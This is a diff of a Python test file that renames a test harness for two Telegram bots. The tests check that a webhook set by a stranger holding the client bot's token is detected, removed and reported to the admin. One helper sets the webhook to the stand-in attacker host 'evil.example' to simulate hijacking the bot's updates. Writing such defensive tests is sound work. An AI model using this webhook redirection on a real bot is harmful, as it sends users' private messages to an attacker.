@@ -16,59 +16,59 @@ from record.watch.alerts import Alerts
 from record.watch.health import examine
 from tests.bots.test_fetcher import fetched, gives
 from tests.bots.test_flood import update
-from tests.bots.wire import Room
-from tests.house import ADMIN, CLIENT_BOT, HANG_S, MASTER_BOT, House, wait_for
+from tests.harness.bot_office import BotOffice
+from tests.harness.system import ADMIN, CLIENT_BOT, HANG_S, MASTER_BOT, System, wait_for
 
 JULIA = 501
 
 
 @pytest.fixture
-def bots(open_house: Callable[..., House]) -> House:
+def bots(open_system: Callable[..., System]) -> System:
     """Both bots at work, and a client who has been greeted."""
-    house = open_house()
-    done = house.run("worker", "init")
+    system = open_system()
+    done = system.run("worker", "init")
     assert done.returncode == 0, done.stderr
-    house.person(ADMIN, "Ольга")
-    house.say(MASTER_BOT, ADMIN, "/start")
-    house.person(JULIA, "Юля")
-    house.say(CLIENT_BOT, JULIA, "/start")
-    house.start("worker", "client", "master")
-    house.hears(CLIENT_BOT, JULIA, "")
-    house.hears(MASTER_BOT, ADMIN, "")
-    return house
+    system.person(ADMIN, "Ольга")
+    system.say(MASTER_BOT, ADMIN, "/start")
+    system.person(JULIA, "Юля")
+    system.say(CLIENT_BOT, JULIA, "/start")
+    system.start("worker", "client", "master")
+    system.hears(CLIENT_BOT, JULIA, "")
+    system.hears(MASTER_BOT, ADMIN, "")
+    return system
 
 
-def stranger(house: House, method: str, **given: object) -> requests.Response:
+def stranger(system: System, method: str, **given: object) -> requests.Response:
     """Let somebody who knows the client bot's token call a method."""
     with requests.Session() as session:
         session.trust_env = False
-        return session.post(f"{house.url}/bot{CLIENT_BOT}/{method}", json=given, timeout=HANG_S)
+        return session.post(f"{system.url}/bot{CLIENT_BOT}/{method}", json=given, timeout=HANG_S)
 
 
-def hooks(house: House) -> None:
+def hooks(system: System) -> None:
     """Let the stranger have the client bot's updates posted to him."""
-    wait_for(lambda: stranger(house, "setWebhook", url="https://evil.example:8443/bot").ok, "Telegram to take it")
+    wait_for(lambda: stranger(system, "setWebhook", url="https://evil.example:8443/bot").ok, "Telegram to take it")
 
 
-def taken_off(house: House) -> None:
+def taken_off(system: System) -> None:
     """Wait until nothing is posted to the stranger any more."""
 
     def off() -> bool:
-        return not stranger(house, "getWebhookInfo").json()["result"]["url"]
+        return not stranger(system, "getWebhookInfo").json()["result"]["url"]
 
     wait_for(off, "the webhook to be off")
 
 
-def reasons(house: House) -> list[str]:
+def reasons(system: System) -> list[str]:
     """Return what is wrong, as monitors and `worker status` are told."""
-    store = Store(house.store_url)
+    store = Store(system.store_url)
     with store.reading() as tx:
         found = examine(tx, load_settings(), time.time()).reasons
     store.close()
     return [reason for reason in found if "Бот клиентов" in reason]
 
 
-def test_e3_a_strangers_webhook_is_taken_off_and_told_once(bots: House) -> None:
+def test_e3_a_strangers_webhook_is_taken_off_and_told_once(bots: System) -> None:
     hooks(bots)
     bots.hears(MASTER_BOT, ADMIN, "он вёл на evil.example")
     taken_off(bots)
@@ -86,7 +86,7 @@ def test_e3_a_strangers_webhook_is_taken_off_and_told_once(bots: House) -> None:
     assert "снова и снова" in bots.run("worker", "status").stdout
 
 
-def test_e3_somebody_else_who_asks_for_the_updates_is_told(bots: House) -> None:
+def test_e3_somebody_else_who_asks_for_the_updates_is_told(bots: System) -> None:
     ended = threading.Event()
 
     def asks() -> None:
@@ -106,7 +106,7 @@ def test_e3_somebody_else_who_asks_for_the_updates_is_told(bots: House) -> None:
         asking.join()
 
 
-def test_e3_a_token_that_is_refused_is_told_and_over(bots: House) -> None:
+def test_e3_a_token_that_is_refused_is_told_and_over(bots: System) -> None:
     fault = {"api": "telegram", "path": "1001.*getUpdates", "times": 1000, "status": 401}
     bots.http.post(f"{bots.url}/sandbox/faults", json=fault).raise_for_status()
     bots.say(CLIENT_BOT, JULIA, "Здравствуйте")  # ends the request that waits
@@ -117,7 +117,7 @@ def test_e3_a_token_that_is_refused_is_told_and_over(bots: House) -> None:
     wait_for(lambda: reasons(bots) == [], "no reason any more")
 
 
-def test_e3_updates_that_went_to_somebody_else_are_missed(room: Room) -> None:
+def test_e3_updates_that_went_to_somebody_else_are_missed(room: BotOffice) -> None:
     """A stranger who asks without waiting causes no conflict, but numbers are missing."""
     fetched(room, gives(update(7, 5, "а")), gives(update(9, 5, "в")), gives(update(10, 5, "г")))
     assert standing(room) == []
@@ -126,14 +126,14 @@ def test_e3_updates_that_went_to_somebody_else_are_missed(room: Room) -> None:
 
 
 @pytest.fixture
-def room(tmp_path: object) -> Iterator[Room]:
+def room(tmp_path: object) -> Iterator[BotOffice]:
     """A bot of this process."""
-    made = Room(tmp_path)  # type: ignore[arg-type]
+    made = BotOffice(tmp_path)  # type: ignore[arg-type]
     yield made
     made.store.close()
 
 
-def standing(room: Room) -> list[str]:
+def standing(room: BotOffice) -> list[str]:
     with room.store.reading() as tx:
         return list(Alerts(tx, room.settings, "ears.client").standing)
 
